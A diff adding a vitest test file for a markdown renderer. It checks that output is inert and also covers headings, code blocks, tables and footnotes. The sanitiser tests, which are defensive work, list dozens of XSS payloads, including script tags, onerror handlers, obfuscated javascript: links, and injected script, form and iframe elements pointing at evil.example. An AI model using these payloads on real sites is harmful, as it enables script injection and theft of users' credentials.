@@ -1,0 +1,298 @@
+import fc from 'fast-check';
+import type { Element, Nodes, Root } from 'hast';
+import rehypeRaw from 'rehype-raw';
+import { unified } from 'unified';
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from './markdown.ts';
+
+/** The elements of a piece of HTML, as a browser's parser sees them. */
+async function elementsOf(html: string): Promise<Element[]> {
+  const tree = await unified()
+    .use(rehypeRaw)
+    .run({ type: 'root', children: [{ type: 'raw', value: html } as unknown as Element] } satisfies Root);
+  const found: Element[] = [];
+  const walk = (node: Nodes) => {
+    if (node.type === 'element') found.push(node);
+    if ('children' in node) for (const child of node.children) walk(child);
+  };
+  walk(tree as Root);
+  return found;
+}
+
+const ALLOWED_TAGS = new Set(
+  (
+    'a abbr b blockquote br button code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ' +
+    'ins kbd li mark ol p picture pre q rp rt ruby s samp section source span strike strong sub summary sup table tbody ' +
+    'td tfoot th thead tr tt ul var'
+  ).split(' '),
+);
+
+/** Checks that nothing in a piece of HTML can run, reach out, be clicked as one of our controls, or take a page's name. */
+async function expectInert(html: string): Promise<void> {
+  for (const { tagName, properties } of await elementsOf(html)) {
+    expect(ALLOWED_TAGS, `<${tagName}> in ${html}`).toContain(tagName);
+    if (tagName === 'button') expect(properties).toEqual({ type: 'button', dataCopyCode: '' });
+    if (tagName === 'input') expect(properties).toMatchObject({ type: 'checkbox', disabled: true });
+    for (const [name, value] of Object.entries(properties)) {
+      const text = Array.isArray(value) ? value.join(' ') : String(value);
+      expect(name, html).not.toMatch(/^on|^style$|^srcdoc$|^formAction$|^target$|^popover|^is$|^slot$|^nonce$/i);
+      if (/^(href|src|cite|longDesc|srcSet|action|poster)$/.test(name)) {
+        expect(text, html).not.toMatch(/^[\s\u0000-\u0020]*(javascript|data|vbscript|file|blob):/i);
+      }
+      if (name === 'id' || name === 'name') expect(text, html).toMatch(/^(s-|user-content-)/);
+      if (name === 'className') {
+        expect(text, html).toMatch(
+          /^(language-[\w+-]+|hljs[\w-]*|code-frame|table-frame|contains-task-list|task-list-item|footnotes|sr-only|data-footnote-backref|function_|class_|inherited__|[\s])*$/,
+        );
+      }
+      if (name.startsWith('data') && name !== 'dateTime') {
+        expect(['dataCopyCode', 'dataFootnotes', 'dataFootnoteRef', 'dataFootnoteBackref'], html).toContain(name);
+      }
+    }
+  }
+}
+
+describe('what a text cannot do', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<img src=x onerror=alert(1)>',
+    '<img src=x oNeRrOr = "alert(1)">',
+    '<img src="x` `<script>alert(1)</script>"` `>',
+    '<body onload=alert(1)>',
+    '<svg onload=alert(1)><circle/></svg>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<style>body{display:none}</style>',
+    '<p style="position:fixed;inset:0">cover</p>',
+    '<link rel=stylesheet href=//evil.example/x.css>',
+    '<base href="//evil.example/">',
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data=x></object><embed src=x><applet code=x></applet>',
+    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+    '<button formaction="javascript:alert(1)">x</button>',
+    '<input type=image src=x onerror=alert(1)>',
+    '<textarea autofocus onfocus=alert(1)></textarea><select><option></select>',
+    '<video poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
+    '<a href="java&#x09;script:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="/" target="_blank" onclick="alert(1)">x</a>',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](data:text/html;base64,PHNjcmlwdD4=)',
+    '[x](<javascript:alert(1)>)',
+    '[x]: javascript:alert(1)\n\n[x]',
+    '![x](javascript:alert(1))',
+    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+    '<javascript:alert(1)>',
+    '<p id="root">a</p><p id="site-menu" popover>b</p><a name="main">c</a>',
+    '<img name="body"><form id="document"><input id="cookie"></form>',
+    '## <img src=x onerror=alert(1)>\n\n## root',
+    '<p data-theme-toggle data-needs-app data-copy-code data-app="now" data-hydrate="now">x</p>',
+    '<div class="fixed inset-0 button-primary" role="dialog">x</div>',
+    '<span class="hljs-keyword sr-only">x</span>',
+    '```<script>alert(1)</script>\nx\n```',
+    '```js" onload="alert(1)\nx\n```',
+    '```html\n<script>alert(1)</script>\n```',
+    '`<script>alert(1)</script>`',
+    '<template><script>alert(1)</script></template>',
+    '<x-element is="y" slot="z" onclick=alert(1)>x</x-element>',
+    '<details ontoggle=alert(1) open><summary>s</summary></details>',
+    '<marquee onstart=alert(1)>x</marquee>',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<!--><script>alert(1)</script>-->',
+    '<?xml version="1.0"?><script>alert(1)</script>',
+    '</div></div></main><script>alert(1)</script>',
+    'x[^1]\n\n[^1]: <script>alert(1)</script>',
+    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  ])('%s', async markdown => {
+    await expectInert((await renderMarkdown(markdown)).html);
+  });
+
+  it('is the same for whatever is thrown together out of dangerous pieces', async () => {
+    const piece = fc.constantFrom(
+      ...[
+        '<script>',
+        '</script>',
+        '<img src=x onerror=',
+        'alert(1)',
+        '>',
+        '<',
+        '"',
+        "'",
+        '`',
+        '```',
+        '\n',
+        '\n\n',
+        ' ',
+      ],
+      ...[
+        '<a href="',
+        'javascript:',
+        '<svg>',
+        '<math>',
+        '<style>',
+        '<!--',
+        '-->',
+        ']]>',
+        '<![CDATA[',
+        '[x](',
+        ')',
+        '&lt;',
+      ],
+      ...[
+        '<table>',
+        '<td>',
+        '<select>',
+        '<noscript>',
+        '<template>',
+        '<p id=root ',
+        '## ',
+        '| a |\n|---|\n',
+        '[^1]',
+        '[^1]: ',
+      ],
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(piece, { maxLength: 14 }), async pieces => {
+        await expectInert((await renderMarkdown(pieces.join(''))).html);
+      }),
+      { numRuns: 150 },
+    );
+  });
+
+  it('is not to hold us up: large and deep texts end', async () => {
+    const began = performance.now();
+    await renderMarkdown(`${'> '.repeat(200)}deep`);
+    await renderMarkdown(`${'*a '.repeat(2000)}`);
+    await renderMarkdown('['.repeat(2000));
+    expect(performance.now() - began).toBeLessThan(10_000);
+  });
+});
+
+describe('headings', () => {
+  it('have ids that no page uses, each its own, and the second and third level make the contents', async () => {
+    const { html, headings } = await renderMarkdown(
+      '# One\n\n## Two & *more*\n\n### Three\n\n## Two & more\n\n#### Four',
+    );
+    expect(headings).toEqual([
+      { id: 's-two--more', text: 'Two & more', level: 2 },
+      { id: 's-three', text: 'Three', level: 3 },
+      { id: 's-two--more-1', text: 'Two & more', level: 2 },
+    ]);
+    for (const { id } of headings) expect(html.split(`id="${id}"`)).toHaveLength(2);
+  });
+
+  it('start anew with every text', async () => {
+    const first = await renderMarkdown('## Same');
+    const second = await renderMarkdown('## Same');
+    expect(second).toEqual(first);
+  });
+});
+
+describe('words', () => {
+  it.each([
+    ['', 0],
+    ['one two three', 3],
+    ['one, two: three!', 3],
+    ["it's the client’s e-mail", 4],
+    ['# Title\n\nText here.', 3],
+    ['- one\n- two', 2],
+    ['one **two**three', 2],
+    ['| a | b |\n|---|---|\n| c | d |', 4],
+    ['```js\nconst a = 1;\n```', 0],
+    ['call `run()` now', 3],
+    ['1,499.50 is 1 number', 4],
+    ['ærø æble', 2],
+    ['<b>one</b> two', 2],
+  ])('%j has %i', async (markdown, words) => {
+    expect((await renderMarkdown(markdown)).words).toBe(words);
+  });
+});
+
+describe('code', () => {
+  it('is framed with its language and a button to copy, highlighted by classes, reachable by keyboard', async () => {
+    const { html } = await renderMarkdown('```ts\nconst a = 1 < 2;\n```');
+    const elements = await elementsOf(html);
+    const names = elements.map(({ tagName }) => tagName);
+    expect(names.slice(0, 6)).toEqual(['figure', 'figcaption', 'span', 'button', 'pre', 'code']);
+    expect(elements.find(({ tagName }) => tagName === 'pre')?.properties.tabIndex).toBe(0);
+    expect(html).toContain('<span>ts</span>');
+    expect(html).toContain('<span class="hljs-keyword">const</span>');
+    expect(html).toMatch(/1<\/span> &#x3C; /);
+    expect(html).not.toContain('style=');
+  });
+
+  it.each([
+    ['```\nx\n```', 'text'],
+    ['    x', 'text'],
+    ['```nonsense\nx\n```', 'nonsense'],
+    ['```c++\nx\n```', 'c++'],
+    ['```c#\nx\n```', 'c#'],
+    ['```ts title="a.ts"\nx\n```', 'ts'],
+  ])('%j is called %s', async (markdown, language) => {
+    expect((await renderMarkdown(markdown)).html).toContain(`<span>${language}</span>`);
+  });
+
+  it('is framed inside lists and quotes, too', async () => {
+    for (const markdown of ['- a\n\n  ```js\n  b\n  ```', '> ```js\n> b\n> ```']) {
+      expect((await renderMarkdown(markdown)).html).toContain('<figure class="code-frame">');
+    }
+  });
+});
+
+describe('tables', () => {
+  it('stand in a frame that scrolls by keyboard and has a name', async () => {
+    const { html } = await renderMarkdown('| a | b |\n|:-|-:|\n| 1 | 2 |');
+    expect(html).toMatch(/^<div class="table-frame" tabindex="0" role="region" aria-label="Table"><table>/);
+    expect(html).toContain('<td align="right">2</td>');
+  });
+});
+
+describe('footnotes', () => {
+  it('lead from the text to the note and back', async () => {
+    const { html } = await renderMarkdown('One[^a] and two[^b].\n\n[^a]: First.\n[^b]: Second.');
+    const elements = await elementsOf(html);
+    const ids = elements.map(({ properties }) => properties.id).filter(id => id !== undefined);
+    const links = elements.map(({ properties }) => properties.href).filter(href => typeof href === 'string');
+    expect(links).toHaveLength(4);
+    for (const link of links) expect(ids).toContain(link.slice(1));
+    expect(new Set(ids).size).toBe(ids.length);
+    for (const { properties } of elements) {
+      for (const id of (properties.ariaDescribedBy as string[] | undefined) ?? []) expect(ids).toContain(id);
+    }
+  });
+});
+
+describe('the rest of what writers use', () => {
+  it.each([
+    ['*a* **b** ~~c~~', '<p><em>a</em> <strong>b</strong> <del>c</del></p>'],
+    ['[a](/b "c")', '<p><a href="/b" title="c">a</a></p>'],
+    [
+      '<mark>a</mark> <abbr title="b">c</abbr> <kbd>d</kbd>',
+      '<p><mark>a</mark> <abbr title="b">c</abbr> <kbd>d</kbd></p>',
+    ],
+    ['[mail](mailto:a@b.example)', '<p><a href="mailto:a@b.example">mail</a></p>'],
+    ['5 < 6 & 7', '<p>5 &#x3C; 6 &#x26; 7</p>'],
+    ['![alt](/media/x.webp)', '<p><img src="/media/x.webp" alt="alt"></p>'],
+  ])('%s', async (markdown, html) => {
+    expect((await renderMarkdown(markdown)).html).toBe(html);
+  });
+
+  it('task lists cannot be ticked by readers', async () => {
+    const { html } = await renderMarkdown('- [x] done\n- [ ] open');
+    expect(html.match(/<input type="checkbox"( checked)? disabled>/g)).toHaveLength(2);
+  });
+});
